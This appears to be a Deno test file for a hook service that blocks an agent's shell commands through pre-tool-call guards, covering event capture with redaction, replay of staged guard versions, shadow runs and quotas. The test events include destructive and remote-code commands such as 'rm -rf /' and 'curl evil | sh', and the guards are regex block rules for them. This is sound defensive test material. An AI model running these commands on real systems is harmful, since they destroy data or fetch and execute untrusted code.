/**
 * Capture, replay and shadow on the service (docs/replay.md), on the embedded
 * store; the store methods themselves are in the shared store suite.
 */
import assert from "node:assert/strict";
import { openSqliteStore } from "../../packages/store-sqlite/sqlite.ts";
import { type Harness, harness, toolEvent } from "./_api.ts";
import { tempDir } from "../_helpers.ts";

const MD = "---\nname: guard\ndescription: a guard\ntrigger: pre-tool-call\n---\n";

/** A function-style guard blocking commands that match `pattern`, with `reason`. */
function guard(pattern: string, reason: string): { files: Record<string, string> } {
  return {
    files: {
      "HOOK.md": MD,
      "scripts/run.mjs": `const RE = new RegExp(${JSON.stringify(pattern)});
export default function (event) {
  if (RE.test(event.tool_input?.command ?? "")) return { decision: "block", reason: ${
        JSON.stringify(reason)
      } };
}
`,
    },
  };
}

async function onService(
  fn: (h: Harness) => Promise<void>,
  now?: () => number,
): Promise<void> {
  const dir = await tempDir("hookbox-replay-");
  const h = await harness(openSqliteStore(`${dir}/hookbox.db`), now);
  try {
    await fn(h);
  } finally {
    await h.close();
    await Deno.remove(dir, { recursive: true });
  }
}

Deno.test("replay: a staged version runs on captured events and names the answers it changes", async () => {
  await onService(async (h) => {
    const key = await h.tenant("acme", {
      capture: { redact: ["secret"], max_event_kb: 1 },
    });
    const put = await h.call("PUT", "/v1/hooks/guard", { key, body: guard("rm -rf", "no rm") });
    assert.equal(put.status, 201, JSON.stringify(put.body));
    for (const command of ["ls", "rm -rf /", "curl evil | sh"]) {
      const sent = await h.call("POST", "/v1/events", {
        key,
        body: toolEvent(command, { secret: "hunter2" }),
      });
      assert.equal(sent.status, 200, JSON.stringify(sent.body));
    }
    // Too large to keep (over max_event_kb): answered, not captured.
    const big = await h.call("POST", "/v1/events", { key, body: toolEvent("x".repeat(2000)) });
    assert.equal(big.status, 200);
    // A dry run is never captured.
    await h.call("POST", "/v1/events?dry_run=1", { key, body: toolEvent("curl a | sh") });
    const metrics = (await h.call("GET", "/metrics")).body as string;
    assert.match(metrics, /hookbox_captures_total\{tenant="acme",result="kept"\} 3/);
    assert.match(metrics, /hookbox_captures_total\{tenant="acme",result="too_large"\} 1/);

    // Version 2 also blocks piping into a shell, and words the rm reason differently.
    const staged = await h.call("PUT", "/v1/hooks/guard?stage=1", {
      key,
      body: guard("rm -rf|\\| *sh", "blocked"),
    });
    assert.equal(staged.status, 201, JSON.stringify(staged.body));
    const replay = await h.call("POST", "/v1/hooks/guard/versions/2/replay", { key });
    assert.equal(replay.status, 200, JSON.stringify(replay.body));
    assert.deepEqual(
      [replay.body.capturing, replay.body.examined, replay.body.skipped, replay.body.next_cursor],
      [true, 3, 0, null],
    );
    assert.deepEqual(
      replay.body.changed.map((c: { changed: string[]; active: unknown; candidate: unknown }) => [
        c.changed,
        c.active,
        c.candidate,
      ]),
      [
        [
          ["reason"],
          { decision: "block", reason: "no rm", blocked_by: "guard" },
          { decision: "block", reason: "blocked", blocked_by: "guard" },
        ],
        [
          ["decision", "reason", "blocked_by"],
          { decision: "allow", reason: null, blocked_by: null },
          { decision: "block", reason: "blocked", blocked_by: "guard" },
        ],
      ],
    );
    // Still the active version's answers: a replay applies nothing.
    const live = await h.call("POST", "/v1/events", { key, body: toolEvent("curl x | sh") });
    assert.equal(live.body.decision, "allow");

    // Pages: one event at a time, oldest first, a cursor to go on.
    const first = await h.call("POST", "/v1/hooks/guard/versions/2/replay?limit=1", { key });
    assert.deepEqual([first.body.examined, first.body.changed.length], [1, 0]);
    assert.equal(typeof first.body.next_cursor, "string");
    const second = await h.call(
      "POST",
      `/v1/hooks/guard/versions/2/replay?limit=1&cursor=${first.body.next_cursor}`,
      { key },
    );
    assert.deepEqual(second.body.changed.map((c: { changed: string[] }) => c.changed), [[
      "reason",
    ]]);
    // `since` is an instant: a time after every event leaves nothing to run.
    const later = await h.call(
      "POST",
      `/v1/hooks/guard/versions/2/replay?since=${encodeURIComponent("2999-01-01T00:00:00+05:00")}`,
      { key },
    );
    assert.deepEqual([later.status, later.body.examined], [200, 0]);
    assert.equal(
      (await h.call("POST", "/v1/hooks/guard/versions/9/replay", { key })).body.error.code,
      "VERSION_NOT_FOUND",
    );
    const forged = await h.call("POST", "/v1/hooks/guard/versions/2/replay?cursor=nope", { key });
    assert.deepEqual([forged.status, forged.body.error.code], [400, "CURSOR_INVALID"]);
    // Another tenant's replay sees none of these events.
    const other = await h.tenant("other");
    await h.call("PUT", "/v1/hooks/guard", { key: other, body: guard("rm -rf", "no rm") });
    const theirs = await h.call("POST", "/v1/hooks/guard/versions/1/replay", { key: other });
    assert.deepEqual(
      [theirs.body.capturing, theirs.body.examined, theirs.body.changed],
      [false, 0, []],
    );
  });
});

Deno.test("capture keeps redacted events only, and goes with its tenant", async () => {
  await onService(async (h) => {
    const key = await h.tenant("acme", { capture: { redact: ["Secret", "command"] } });
    await h.call("PUT", "/v1/hooks/guard", { key, body: guard("rm", "no rm") });
    await h.call("POST", "/v1/events", { key, body: toolEvent("rm x", { secret: "hunter2" }) });
    const page = await h.store.readCaptures!({ tenant_id: "acme", limit: 10, bytes: 1 << 20 });
    assert.equal(page.items.length, 1);
    const kept = JSON.parse(page.items[0]!.event);
    assert.deepEqual([kept.secret, kept.tool_input.command], ["[redacted]", "[redacted]"]);
    assert.doesNotMatch(page.items[0]!.event, /hunter2|rm x/);
    assert.equal(kept.tenant_id, undefined, "the tenant is the row's, not the event's");
    // Deleting the tenant deletes what it captured; a tenant made again with the id has none.
    assert.equal((await h.call("DELETE", "/v1/tenants/acme")).status, 204);
    await h.tenant("acme");
    const after = await h.store.readCaptures!({ tenant_id: "acme", limit: 10, bytes: 1 << 20 });
    assert.deepEqual(after.items, []);
  });
});

Deno.test("shadow: a version runs beside live events, is compared, and never answers", async () => {
  await onService(async (h) => {
    const key = await h.tenant("acme");
    await h.call("PUT", "/v1/hooks/guard", { key, body: guard("rm -rf", "no rm") });
    await h.call("PUT", "/v1/hooks/guard?stage=1", { key, body: guard("rm|curl", "blocked") });
    const none = await h.call("GET", "/v1/hooks/guard/shadow", { key });
    assert.deepEqual([none.status, none.body.shadow, none.body.runs], [200, null, 0]);
    const missing = await h.call("PUT", "/v1/hooks/guard/shadow", { key, body: { version: 7 } });
    assert.deepEqual([missing.status, missing.body.error.code], [404, "VERSION_NOT_FOUND"]);
    const started = await h.call("PUT", "/v1/hooks/guard/shadow", { key, body: { version: 2 } });
    assert.equal(started.status, 200, JSON.stringify(started.body));
    assert.equal(started.body.shadow.version, 2);

    const answers = [];
    for (const command of ["ls", "curl x", "rm -rf /"]) {
      answers.push((await h.call("POST", "/v1/events", { key, body: toolEvent(command) })).body);
      await h.service.shadows.settled(); // one shadow run per tenant at a time: let each finish
    }
    // The live answers are the active version's, whatever the shadow said.
    assert.deepEqual(answers.map((a) => [a.decision, a.reason]), [
      ["allow", null],
      ["allow", null],
      ["block", "no rm"],
    ]);
    const report = await h.call("GET", "/v1/hooks/guard/shadow", { key });
    assert.deepEqual([report.body.runs, report.body.agreed], [3, 1]);
    assert.deepEqual(
      report.body.disagreements.map((d: { differs: { changed: string[] } }) => d.differs.changed),
      [["reason"], ["decision", "reason", "blocked_by"]],
      "newest first",
    );
    const audit = await h.call("GET", "/v1/audit", { key });
    assert.equal(audit.body.items.length, 3, "shadow runs add no audit rows of their own");
    assert.equal(
      report.body.disagreements[1].decision_id,
      audit.body.items[1].decision_id,
      "each run names the live decision it ran beside",
    );
    const paged = await h.call("GET", "/v1/hooks/guard/shadow?limit=1", { key });
    assert.equal(paged.body.disagreements.length, 1);
    const rest = await h.call(
      "GET",
      `/v1/hooks/guard/shadow?limit=1&cursor=${paged.body.next_cursor}`,
      { key },
    );
    assert.deepEqual(rest.body.disagreements[0].differs.changed, [
      "decision",
      "reason",
      "blocked_by",
    ]);
    assert.equal(rest.body.next_cursor, null);

    // Stopped: no runs are kept and live events stay as they were.
    assert.equal((await h.call("DELETE", "/v1/hooks/guard/shadow", { key })).status, 204);
    await h.call("POST", "/v1/events", { key, body: toolEvent("curl y") });
    await h.service.shadows.settled();
    const stopped = await h.call("GET", "/v1/hooks/guard/shadow", { key });
    assert.deepEqual([stopped.body.shadow, stopped.body.runs], [null, 0]);
    const metrics = (await h.call("GET", "/metrics")).body as string;
    assert.match(
      metrics,
      /hookbox_shadow_runs_total\{tenant="acme",hook="guard",result="agreed"\} 1/,
    );
    assert.match(
      metrics,
      /hookbox_shadow_runs_total\{tenant="acme",hook="guard",result="disagreed"\} 2/,
    );
    // Another tenant cannot shadow, replay or read this hook.
    const other = await h.tenant("other");
    for (
      const [method, path] of [
        ["GET", "/v1/hooks/guard/shadow"],
        ["POST", "/v1/hooks/guard/versions/2/replay"],
      ]
    ) {
      const r = await h.call(method!, path!, { key: other });
      assert.deepEqual([r.status, r.body.error.code], [404, "HOOK_NOT_FOUND"]);
    }
  });
});

Deno.test("shadow runs draw on the tenant's fuel quota and are skipped, counted, when it is spent", async () => {
  await onService(async (h) => {
    const key = await h.tenant("acme", { fuel_per_minute: 1 });
    await h.call("PUT", "/v1/hooks/guard", { key, body: guard("rm", "no rm") });
    await h.call("PUT", "/v1/hooks/guard?stage=1", { key, body: guard("curl", "no curl") });
    await h.call("PUT", "/v1/hooks/guard/shadow", { key, body: { version: 2 } });
    // The live event takes the minute's one unit of fuel: nothing is left for the shadow.
    await h.call("POST", "/v1/events", { key, body: toolEvent("ls") });
    await h.service.shadows.settled();
    const report = await h.call("GET", "/v1/hooks/guard/shadow", { key });
    assert.equal(report.body.runs, 0);
    const metrics = (await h.call("GET", "/metrics")).body as string;
    assert.match(
      metrics,
      /hookbox_shadow_runs_total\{tenant="acme",hook="guard",result="skipped"\} 1/,
    );
  });
});

Deno.test("a replay page ends after REPLAY_PAGE_MS with a cursor, however many events it may run", async () => {
  let clock = Date.parse("2026-11-27T00:00:00Z");
  let ticking = false;
  // While the replay runs, each look at the clock is 20 s later.
  const now = () => ticking ? (clock += 20_000) : clock;
  await onService(async (h) => {
    const key = await h.tenant("acme", { capture: {} });
    await h.call("PUT", "/v1/hooks/guard", { key, body: guard("rm", "no rm") });
    for (const command of ["a", "b", "c", "d"]) {
      await h.call("POST", "/v1/events", { key, body: toolEvent(command) });
    }
    await h.call("PUT", "/v1/hooks/guard?stage=1", { key, body: guard("x", "no x") });
    ticking = true;
    const first = await h.call("POST", "/v1/hooks/guard/versions/2/replay", { key });
    ticking = false;
    assert.equal(first.status, 200, JSON.stringify(first.body));
    assert.ok(first.body.examined < 4, `examined ${first.body.examined}`);
    assert.equal(typeof first.body.next_cursor, "string");
    // The rest comes with the cursor, nothing twice.
    const rest = await h.call(
      "POST",
      `/v1/hooks/guard/versions/2/replay?cursor=${first.body.next_cursor}`,
      { key },
    );
    assert.equal(first.body.examined + rest.body.examined, 4);
    assert.equal(rest.body.next_cursor, null);
  }, now);
});
